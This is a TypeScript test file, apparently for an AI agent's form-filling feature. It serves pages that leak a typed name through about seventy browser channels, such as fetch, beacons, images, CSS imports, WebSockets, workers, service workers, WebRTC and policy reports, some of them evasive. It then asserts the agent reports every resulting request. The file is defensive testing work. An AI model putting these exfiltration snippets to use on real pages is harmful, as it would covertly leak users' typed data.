import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { after, describe, it } from "node:test";
import type { Page } from "playwright";
import { type CarriedOut, carryOut, fieldsOf, withForm } from "../../../src/features/agent/filling.js";
import { servePages } from "../../env/page-site.js";
import { testBrowser } from "../../support/page.js";

const browser = await testBrowser();

const VALUE = "Ines Meyer";

/**
 * The channels through which a page can send: a script with `v`, the text of the field in base64. It runs at every change
 * of the field, and once more half a second later, as a page does that saves with a delay. HERE is the page's server,
 * THERE another one, UDP a port. `early`: runs when the page is opened.
 */
const CHANNELS: Readonly<Record<string, { early?: string; send: string }>> = {
  "fetch, GET": { send: "fetch('/c?' + v)" },
  "fetch, POST": { send: "fetch('/c', { method: 'POST', body: v })" },
  "fetch, PUT of JSON": { send: "fetch('/c', { method: 'PUT', body: JSON.stringify({ v }) })" },
  "fetch that outlives the page": { send: "fetch('/c', { method: 'POST', body: v, keepalive: true })" },
  "fetch, a header": { send: "fetch('/c', { headers: { 'x-v': v } })" },
  "fetch, a cookie": { send: "document.cookie = 'v=' + v; fetch('/c')" },
  "fetch, the address of the page": { send: "history.replaceState(0, '', '?' + v); fetch('/c')" },
  "fetch to another server": { send: "fetch('THERE/c?' + v, { mode: 'no-cors' })" },
  "fetch, POST to another server": { send: "fetch('THERE/c', { mode: 'no-cors', method: 'POST', body: v })" },
  "the request before a request": { send: "fetch('THERE/c?' + v, { headers: { 'x-v': v } })" },
  fetchLater: { send: "self.fetchLater?.('/c?' + v, { activateAfter: 0 })" },
  XHR: { send: "const x = new XMLHttpRequest(); x.open('POST', '/c'); x.send(v)" },
  "XHR that waits": { send: "const x = new XMLHttpRequest(); x.open('POST', '/c', false); try { x.send(v) } catch {}" },
  beacon: { send: "navigator.sendBeacon('/c', v)" },
  image: { send: "new Image().src = '/c?' + v" },
  "image, the path": { send: "new Image().src = '/c/' + v" },
  "image of another server": { send: "new Image().src = 'THERE/c/' + v" },
  style: { send: "document.body.style.background = 'url(/c?' + v + ')'" },
  "style sheet": { send: "add('link', { rel: 'stylesheet', href: '/c?' + v })" },
  "style that imports": { send: "add('style', { textContent: '@import \"/c?' + v + '\"' })" },
  font: { send: "new FontFace('f', 'url(/c?' + v + ')').load()" },
  script: { send: "add('script', { src: '/c?' + v })" },
  module: { send: "import('/c?' + v)" },
  preload: { send: "add('link', { rel: 'preload', as: 'image', href: '/c?' + v })" },
  modulepreload: { send: "add('link', { rel: 'modulepreload', href: '/c?' + v })" },
  prefetch: { send: "add('link', { rel: 'prefetch', href: '/c?' + v })" },
  "prefetch of a page": { send: "add('link', { rel: 'prefetch', as: 'document', href: '?v=' + v })" },
  "speculation rules": {
    send: "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['/c?' + v], eagerness: 'immediate' }] }) })",
  },
  prerender: {
    send: "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: ['/c?' + v], eagerness: 'immediate' }] }) })",
  },
  icon: { send: "add('link', { rel: 'icon', href: '/c?' + v })" },
  manifest: { send: "add('link', { rel: 'manifest', href: '/c?' + v })" },
  video: { send: "add('video', { src: '/c?' + v, preload: 'auto' })" },
  drawing: { send: "add('div', { innerHTML: '<svg><use href=\"/c?' + v + '#x\"/></svg>' })" },
  object: { send: "add('object', { data: '/c?' + v })" },
  frame: { send: "add('iframe', { src: '/c?' + v })" },
  "frame of another server": { send: "add('iframe', { src: 'THERE/c?' + v })" },
  "fetch of a new frame": { send: "add('iframe', {}).contentWindow.fetch('/c', { method: 'POST', body: v })" },
  "socket of a new frame": {
    send: "new (add('iframe', {}).contentWindow.WebSocket)('ws' + location.origin.slice(4) + '/socket?' + v)",
  },
  "form into a frame": {
    send: "add('iframe', { name: 'inner' }); const f = add('form', { method: 'post', action: '/c', target: 'inner' }); f.append(Object.assign(document.createElement('input'), { name: 'v', value: v })); f.submit()",
  },
  "form, submit()": { send: "document.forms[0].submit()" },
  "form, requestSubmit()": { send: "document.forms[0].requestSubmit()" },
  "form, the button": { send: "document.querySelector('button').click()" },
  "form into a window": { send: "document.forms[0].target = '_blank'; document.forms[0].submit()" },
  address: { send: "location.href = '/c?' + v" },
  "address, by a frame": { send: "add('iframe', {}).contentWindow.eval('parent.location.href = \"/c?' + v + '\"')" },
  "address, by a frame's link": {
    send: "const f = add('iframe', {}); f.contentDocument.body.innerHTML = '<a target=_top href=\"/c?' + v + '\">x</a>'; f.contentDocument.querySelector('a').click()",
  },
  link: { send: "add('a', { href: '/c?' + v, textContent: 'x' }).click()" },
  "link, ping": { send: "const a = add('a', { href: '#x', ping: '/c?' + v, textContent: 'x' }); a.click()" },
  refresh: { send: "add('meta', { httpEquiv: 'refresh', content: '0;url=/c?' + v })" },
  reload: { send: "history.replaceState(0, '', '?' + v); location.reload()" },
  window: { send: "window.open('/c?' + v)" },
  "event source": { send: "new EventSource('/c?' + v)" },
  socket: { send: "new WebSocket('ws' + location.origin.slice(4) + '/socket?' + v)" },
  "socket, a message": { early: "ws = new WebSocket('ws' + location.origin.slice(4) + '/socket')", send: "ws.send(v)" },
  "socket, a message by a kept function": {
    early: "ws = new WebSocket('ws' + location.origin.slice(4) + '/socket'); keep = WebSocket.prototype.send",
    send: "keep.call(ws, v)",
  },
  "socket by a kept constructor": {
    early: "WS = WebSocket",
    send: "new WS('ws' + location.origin.slice(4) + '/socket?' + v)",
  },
  worker: { early: "w = new Worker('/worker.js')", send: "w.postMessage(v)" },
  "worker, a socket": { early: "w = new Worker('/worker-socket.js')", send: "w.postMessage(v)" },
  "new worker": { send: "new Worker('/worker.js?' + v)" },
  "new worker of a text": {
    send: "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + location.origin + '/c?' + v + '\", { mode: \"no-cors\" })'])))",
  },
  "socket of a new worker": {
    send: "new Worker(URL.createObjectURL(new Blob(['new WebSocket(\"ws' + location.origin.slice(4) + '/socket?' + v + '\")'])))",
  },
  "new shared worker": { send: "new SharedWorker('/worker.js?' + v)" },
  "service worker": {
    early: "navigator.serviceWorker.register('/sw.js'); navigator.serviceWorker.ready.then((r) => (sw = r.active))",
    send: "sw.postMessage(v)",
  },
  "service worker by a kept function": {
    early:
      "navigator.serviceWorker.register('/sw.js'); navigator.serviceWorker.ready.then((r) => (sw = r.active)); keep = ServiceWorker.prototype.postMessage",
    send: "keep.call(sw, v)",
  },
  WebRTC: {
    send: "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); p.createDataChannel(v); p.createOffer().then((o) => p.setLocalDescription(o))",
  },
  WebTransport: { send: "new WebTransport('https://127.0.0.1:UDP/' + v).ready.catch(() => 0)" },
  "report of a policy": {
    send: "add('meta', { httpEquiv: 'content-security-policy', content: \"img-src 'none'; report-uri /c?\" + v }); new Image().src = '/x'",
  },
};

const pageOf = ({ early = "", send }: (typeof CHANNELS)[string], there: string, udp: number): string =>
  `<link rel="icon" href="data:,"><form method="get" action="/c"><label>Name <input name="name"></label><label>City <input name="city"></label><button>Go</button></form><script>
  let ws, w, sw, keep, WS; window.count = 0;
  const add = (name, own) => document.body.appendChild(Object.assign(document.createElement(name), own));
  const field = document.querySelector("[name=name]");
  const send = () => { const v = btoa(field.value).replace(/=/g, ""); ${send} };
  const all = () => { try { send() } finally { count++ } };
  field.addEventListener("input", () => { setTimeout(() => setTimeout(all, 500), 400); all(); });
  ${early}
  </script>`
    .replaceAll("THERE", there)
    .replaceAll("UDP", String(udp));

const WORKER = `onmessage = ({ data }) => fetch("/c", { method: "POST", body: data });`;
const FILES: Readonly<Record<string, string>> = {
  "/worker.js": WORKER,
  "/sw.js": WORKER,
  "/worker-socket.js": `const ws = new WebSocket("ws" + location.origin.slice(4) + "/socket"); onmessage = ({ data }) => ws.send(data);`,
};

async function fill(page: Page): Promise<CarriedOut> {
  const values = { Name: VALUE };
  return withForm(page, ["Name"], async (open) => {
    const controls = await fieldsOf(open, values, false);
    return carryOut(open, controls, [{ kind: "fill", label: "Name", value: VALUE }], values, 3000);
  });
}

describe("a page that is filled in", { concurrency: 6 }, () => {
  for (const [name, channel] of Object.entries(CHANNELS))
    it(`sends nothing that is not reported: ${name}`, async () => {
      const got: string[] = [];
      const udp = createSocket("udp4").on("message", () => got.push("UDP"));
      udp.bind(0, "127.0.0.1");
      await once(udp, "listening");
      await using there = await servePages({});
      const pages = { "/": pageOf(channel, there.baseUrl, udp.address().port) };
      await using here = await servePages(
        pages,
        ({ url }, response) => {
          const file = FILES[url.split("?")[0] ?? ""];
          if (file === undefined) return false;
          response.writeHead(200, { "content-type": "text/javascript" }).end(file);
          return true;
        },
        undefined,
        (key, socket) => {
          const accept = createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64");
          got.push("WebSocket");
          socket.on("data", () => got.push("WebSocket"));
          socket.write(
            `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
          );
        },
      );
      const context = await browser.newContext();
      const page = await context.newPage();
      after(() => udp.close());
      after(() => context.close());
      await page.goto(here.baseUrl, { waitUntil: "networkidle" });
      if (channel.early?.includes("serviceWorker")) await page.waitForFunction("sw !== undefined && sw !== null");
      here.received.length = 0;
      got.length = 0;
      const { sent } = await fill(page);
      const { length } = got;
      await page.waitForFunction("count >= 2");
      await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
      const arrived = [here, there].flatMap(({ received, baseUrl }) =>
        received.map(({ method, url }) => `${method} ${baseUrl}${url}`),
      );
      assert.equal(page.url().replace(/[?#].*/, ""), `${here.baseUrl}/`);
      assert.deepEqual(
        arrived.filter((one) => !sent.includes(one)),
        [],
      );
      // one socket is like another; a function kept from before and that of a new worker are reported, not held
      const reported = sent.some((one) => one.startsWith("WebSocket"));
      assert.deepEqual([length > 0, got.length > length && !/kept|new worker/.test(name)], [reported, false]);
    });
});
